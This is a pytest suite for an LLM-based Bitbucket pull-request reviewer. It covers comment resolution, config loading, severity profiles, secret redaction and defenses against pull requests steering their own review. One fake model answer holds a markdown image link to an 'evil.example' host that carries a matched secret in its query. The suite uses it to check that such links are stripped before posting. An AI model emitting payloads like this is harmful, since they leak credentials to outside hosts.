"""Gaps found by the review-pipeline audit (issue 5): each test fails without its fix."""

from __future__ import annotations

import json

import pytest

from bbreview.diff import parse_diff
from bbreview.errors import ConfigError
from bbreview.review import BitbucketPublisher, PullRequest, ReviewConfig, Reviewer, ReviewFinding, check
from bbreview.review.llm import OpenAIProvider
from bbreview.review.pipeline import BELOW_MIN, load_change_config
from bbreview.review.render import parse_markers
from bbreview.review.source import PatchSetChange
from bbreview.testing import FakeBitbucket, FakeLLM
from bbreview.testing.fake_llm import Fault, FakeRule

from test_review_e2e import World  # noqa: I001 - the shared FakeBitbucket world

SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"


@pytest.fixture()
def world():
    with FakeBitbucket(seed=11) as bb:
        yield World(bb)


@pytest.fixture()
def llm():
    with FakeLLM() as fake:
        yield fake


def provider(fake: FakeLLM) -> OpenAIProvider:
    return OpenAIProvider(fake.openai_base_url, "fake-model", timeout=20)


def review_pr(world, pr, *, llm=None, since=None, defaults=None, checks=(), publish=True, env=None):
    client = world.client()
    change = PullRequest(client, "acme", "app", pr.id)
    cfg = load_change_config(change, defaults)
    rv = Reviewer(cfg, checks, llm=provider(llm) if llm else None, env=env).review(change, since=since)
    result = BitbucketPublisher(client).publish(rv, change) if publish else None
    return rv, result


def summary_of(world, pr) -> str:
    return next(c["content"]["raw"] for c in world.comments(pr, user=world.bot)
                if ("summary", []) in parse_markers(c["content"]["raw"]))


def one_file_diff(lines: list[str], path: str = "a.py") -> str:
    body = "".join(f"+{line}\n" for line in lines)
    return f"diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -1 +1,{len(lines) + 1} @@\n x\n{body}"


# -- 1. an incremental run resolves only the LLM comments it re-checked ----------------------------

RISKY = "import os\n\n\ndef f(x):\n    return risky_call(x)\n" + "".join(f"v{i} = {i}\n" for i in range(40))


def test_an_unrelated_commit_keeps_an_llm_comment_open_and_a_fix_resolves_it(world, llm):
    llm.rules.append(FakeRule(r"risky_call\(", "high", "Risky call without error handling", "Wrap it.", "bug"))
    world.bb.commit(world.repo, "feature", {"app.py": RISKY}, message="risky", author=world.dev, notify=False)
    pr = world.open_pr()
    first, _ = review_pr(world, pr, llm=llm)
    assert [c.start for c in first.comments if c.finding.source == "llm" and c.path == "app.py"] == [5]

    # A commit at the other end of the file: the model sees only that hunk, so line 5 stays open.
    world.bb.commit(world.repo, "feature", {"app.py": RISKY + "w = 1\n"}, message="more", author=world.dev,
                    notify=False)
    second, result = review_pr(world, pr, llm=llm, since=first.head_commit)
    assert "app.py" in second.incremental_files and result.resolved == 0
    risky = [c for c in world.comments(pr, user=world.bot) if "Risky call" in c["content"]["raw"]]
    assert len(risky) == 1 and not risky[0].get("resolution")

    # A commit that rewrites that line: the model sees it and no longer finds the problem.
    fixed = RISKY.replace("risky_call(x)", "safe_call(x)") + "w = 1\n"
    world.bb.commit(world.repo, "feature", {"app.py": fixed}, message="fix", author=world.dev, notify=False)
    third, result = review_pr(world, pr, llm=llm, since=second.head_commit)
    assert result.resolved == 1
    risky = [c for c in world.comments(pr, user=world.bot) if "Risky call" in c["content"]["raw"]]
    assert risky[0].get("resolution")


# -- 2. an LLM that cannot be set up leaves a rules review ----------------------------------------


def test_an_llm_without_a_key_leaves_a_rules_review_that_says_why(world):
    for branch in ("main", "feature"):
        world.bb.commit(world.repo, branch, {".bbreview.yaml": "llm: {provider: openai, model: gpt-4o}\n"},
                        message="cfg", author=world.dev, notify=False)
    pr = world.open_pr()
    rv, result = review_pr(world, pr, env={})
    assert rv.comments and {c.finding.source for c in rv.comments} == {"rules"}
    assert result.posted == len(rv.comments)
    summary = summary_of(world, pr)
    assert "**LLM:** not used: no API key" in summary and "OPENAI_API_KEY" in summary
    assert "http" not in summary.split("**LLM:**", 1)[1].split("\n", 1)[0]


# -- 3. a check's findings at different places stay apart ------------------------------------------


@check
def row_loops(file):
    for hunk in file.hunks:
        for line in hunk.lines:
            if line.kind == "+" and "iterrows" in line.content:
                yield ReviewFinding(file.path, line.new_lineno, title="Row-by-row loop", severity="medium")


def test_two_hits_of_one_check_in_a_file_are_two_comments_with_stable_fingerprints():
    diff = one_file_diff(["for r in df.iterrows(): pass", "y = 1", "for r in df2.iterrows(): pass",
                          "for r in df2.iterrows(): pass"])
    rv = Reviewer(ReviewConfig.default(), [row_loops]).review(diff)
    loops = [c for c in rv.comments if c.finding.source == "check:row_loops"]
    assert [c.start for c in loops] == [2, 4, 5]
    assert len({c.finding.fingerprint for c in loops}) == 3
    # The same code a few lines lower (a commit above it) keeps its identity: re-runs do not repost.
    moved = one_file_diff(["import pandas", "for r in df.iterrows(): pass", "y = 1", "for r in df2.iterrows(): pass",
                           "for r in df2.iterrows(): pass"])
    again = Reviewer(ReviewConfig.default(), [row_loops]).review(moved)
    assert {c.finding.fingerprint for c in again.comments if c.finding.source == "check:row_loops"} == {
        c.finding.fingerprint for c in loops}


# -- 4. a bad rules.files entry is a configuration error of load_change_config ---------------------


class _Files(PatchSetChange):
    def __init__(self, files: dict[str, bytes]) -> None:
        super().__init__(parse_diff(one_file_diff(["y = 1"])))
        self.files = files

    def read_file(self, path: str) -> bytes | None:
        return self.files.get(path)


@pytest.mark.parametrize("files, reason", [
    ({".bbreview.yaml": b"rules:\n  files: [missing.yaml]\n"}, "cannot read rule file 'missing.yaml': not found"),
    ({".bbreview.yaml": b"rules:\n  files: [bad.yaml]\n", "bad.yaml": b"rules:\n - id: x\n   pattern: '('\n"},
     "invalid rule file"),
], ids=["missing", "invalid"])
def test_a_bad_rule_file_fails_load_change_config_with_its_key_and_line(files, reason):
    with pytest.raises(ConfigError) as err:
        load_change_config(_Files(files))
    assert err.value.key == "rules.files[0]" and err.value.line == 2 and reason in str(err.value)


def test_a_valid_rule_file_is_loaded_once_and_used():
    rule = b"rules:\n  - id: team/no-foo\n    patterns: ['foo\\(']\n    message: No foo.\n    severity: warning\n"
    change = _Files({".bbreview.yaml": b"rules:\n  files: [team.yaml]\n", "team.yaml": rule})
    change.patchset = parse_diff(one_file_diff(["foo(1)"]))
    rv = Reviewer(load_change_config(change)).review(change)
    assert [c.finding.rule_id for c in rv.comments] == ["team/no-foo"]


# -- 5. the profile chooses min_severity when it is not set ----------------------------------------


@check
def nit(file):
    return [ReviewFinding(file.path, 2, severity="nitpick", title="naming", source="check:nit")]


@pytest.mark.parametrize("text, posted", [
    ("reviews:\n  profile: assertive\n", True),
    ("reviews:\n  profile: chill\n", False),
    ("", False),
    ("reviews:\n  profile: assertive\n  min_severity: low\n", False),
])
def test_assertive_alone_lets_nitpicks_through(text, posted):
    cfg = ReviewConfig.from_yaml(text)
    rv = Reviewer(cfg, [nit]).review(one_file_diff(["y = 1"]))
    assert bool([c for c in rv.comments if c.finding.severity == "nitpick"]) is posted
    if not posted:
        assert [d.reason for d in rv.filtered] == [BELOW_MIN]


def test_service_defaults_that_set_min_severity_win_over_the_profile():
    defaults = ReviewConfig.from_yaml("reviews:\n  min_severity: medium\n", source="defaults.yaml")
    cfg = ReviewConfig.from_yaml("reviews:\n  profile: assertive\n", defaults=defaults)
    assert cfg.effective_min_severity() == "medium"


# -- 6. secrets never reach the model, and model text is made safe to post -------------------------

SETTINGS = f'import os\nAWS_SECRET_ACCESS_KEY = "{SECRET}"\ndb = connect(host="x")\n'


def test_secrets_are_masked_before_the_model_and_in_its_findings(world, llm):
    llm.rules.append(FakeRule(r"AWS_SECRET", "high", "Key in code `{line}`",
                              "Found `{line}`; see ![x](https://evil.example/?q={match}) and [docs](https://evil.example/d)",
                              "security"))
    world.bb.commit(world.repo, "feature", {"settings.py": SETTINGS}, message="s", author=world.dev, notify=False)
    # Even with the secret rules disabled, the built-in secret patterns mask what is sent.
    for branch in ("main", "feature"):
        world.bb.commit(world.repo, branch, {".bbreview.yaml": "rules:\n  packs: [security]\n"}, message="cfg",
                        author=world.dev, notify=False)
    pr = world.open_pr(description=f"Rotated the key {SECRET} today")
    rv, _ = review_pr(world, pr, llm=llm)
    assert llm.requests and all(SECRET not in r.prompt for r in llm.requests)
    assert any("[REDACTED-SECRET]" in r.prompt for r in llm.requests)
    llm_findings = [f for f in rv.findings if f.source == "llm" and f.path == "settings.py"]
    assert llm_findings and all("[REDACTED-SECRET]" in f.body for f in llm_findings)
    posted = "\n".join(c["content"]["raw"] for c in world.comments(pr, user=world.bot))
    assert SECRET not in posted and "evil.example" not in posted and "![" not in posted
    assert "docs" in posted  # a link keeps its text


def test_a_secret_the_model_repeats_is_redacted(llm):
    diff = one_file_diff([f'AWS_SECRET_ACCESS_KEY = "{SECRET}"'], path="settings.py")
    answer = {"findings": [{"path": "settings.py", "start_line": 2, "end_line": 2, "severity": "high",
                            "category": "security", "title": f"Key {SECRET}", "body": f"The key {SECRET} leaks",
                            "replacement": f'KEY = "{SECRET}"'}], "summary": {}}
    llm.script([Fault.fenced(answer)])
    rv = Reviewer(ReviewConfig.default(), llm=provider(llm)).review(diff)
    text = rv.to_markdown() + json.dumps(rv.to_dict())
    assert SECRET not in text
    [finding] = [f for f in rv.findings if f.source == "llm"]
    assert SECRET not in finding.title + finding.body + (finding.suggestion or "")


# -- 7. the provider's URL stays in the logs -------------------------------------------------------


def test_an_unreachable_llm_is_described_without_its_url():
    dead = OpenAIProvider("http://127.0.0.1:9/v1", "fake-model", timeout=5)
    rv = Reviewer(ReviewConfig.default(), llm=dead).review(one_file_diff(["y = eval(x)"]))
    summary = rv.summary_markdown()
    assert "the LLM provider could not be reached (connection refused)" in summary
    assert "127.0.0.1" not in summary and "http://" not in summary
    assert "127.0.0.1" not in json.dumps(rv.to_dict())


# -- 8. nothing found is lost on the way to the PR -------------------------------------------------


def test_a_failed_inline_post_moves_the_finding_into_the_summary(world):
    pr = world.open_pr()
    client = world.client()
    change = PullRequest(client, "acme", "app", pr.id)
    rv = Reviewer(load_change_config(change)).review(change)
    total = len(rv.comments)
    world.bb.fail_next(1, 400, method="POST", path=r"/comments")
    result = BitbucketPublisher(client).publish(rv, change)
    assert result.posted == total - 1 and result.moved_to_summary == 1
    [moved] = [d for d in rv.deferred if d.reason.startswith("posting it on the line failed")]
    assert "HTTP 400" in moved.reason
    summary = summary_of(world, pr)
    assert moved.finding.title in summary.split("### Findings not posted on a line", 1)[1]


def test_model_findings_that_cannot_be_used_are_counted_in_the_summary(llm):
    diff = one_file_diff(["y = eval(x)"])
    good = {"path": "a.py", "start_line": 2, "severity": "low", "title": "ok", "body": "b"}
    answer = {"findings": [{**good, "path": "nowhere.py"}] + [dict(good, title=f"t{i}") for i in range(45)],
              "summary": {}}
    llm.script([Fault.fenced(answer)])
    rv = Reviewer(ReviewConfig.default(), llm=provider(llm)).review(diff)
    assert rv.metadata["invalid_findings"] == 7 and rv.metadata["over_cap_findings"] == 6
    assert "7 model findings could not be used: 1 named a file or lines it was not shown" in rv.summary_markdown()
    assert "6 were over the limit of findings per request" in rv.summary_markdown()


# -- 9. a head that moved during the review ---------------------------------------------------------


def test_a_newer_commit_holds_back_inline_comments(world):
    pr = world.open_pr()
    client = world.client()
    change = PullRequest(client, "acme", "app", pr.id)
    rv = Reviewer(load_change_config(change)).review(change)
    assert rv.comments
    world.bb.commit(world.repo, "feature", {"later.py": "x = 1\n"}, message="later", author=world.dev, notify=False)
    result = BitbucketPublisher(client).publish(rv, change)
    assert result.newer_commit and result.posted == 0
    bot = world.comments(pr, user=world.bot)
    assert not [c for c in bot if c.get("inline")]
    summary = summary_of(world, pr)
    assert f"A newer commit (`{result.newer_commit[:12]}`) arrived" in summary and "reviewed next" in summary


# -- 10. a pull request cannot steer its own review -------------------------------------------------


def test_a_pull_request_changing_the_configuration_is_reviewed_with_the_destination_copy(world):
    silence = "reviews:\n  path_filters: ['!**']\n  max_comments: 0\nrules:\n  packs: []\n"
    world.bb.commit(world.repo, "feature", {".bbreview.yaml": silence}, message="quiet", author=world.dev,
                    notify=False)
    pr = world.open_pr()
    rv, result = review_pr(world, pr)
    assert result.posted >= 3 and rv.config == ReviewConfig.default()
    summary = summary_of(world, pr)
    assert "This pull request changes `.bbreview.yaml`; it was reviewed with the copy on the destination branch" in summary


def test_an_invalid_configuration_in_the_pull_request_is_noted_not_obeyed(world):
    world.bb.commit(world.repo, "feature", {".bbreview.yaml": "reviews:\n  profile: loud\n"}, message="cfg",
                    author=world.dev, notify=False)
    pr = world.open_pr()
    rv, result = review_pr(world, pr)
    assert result.posted > 0
    assert "own `.bbreview.yaml` is invalid" in summary_of(world, pr) and "reviews.profile" in summary_of(world, pr)


def test_a_repository_budget_is_capped_by_the_service_budget():
    defaults = ReviewConfig.from_yaml("llm:\n  max_tokens_per_review: 5000\n", source="defaults.yaml")
    change = _Files({".bbreview.yaml": b"llm:\n  max_tokens_per_review: 1000000\n"})
    cfg = load_change_config(change, defaults)
    assert cfg.llm.max_tokens_per_review == 5000
    assert any("above the service's budget; 5,000 tokens were used" in n for n in cfg.notes)
    # A lower budget is the repository's to choose; defaults that set no budget cap nothing.
    lower = load_change_config(_Files({".bbreview.yaml": b"llm:\n  max_tokens_per_review: 100\n"}), defaults)
    assert lower.llm.max_tokens_per_review == 100 and not lower.notes
    free = load_change_config(change, ReviewConfig.default())
    assert free.llm.max_tokens_per_review == 1000000
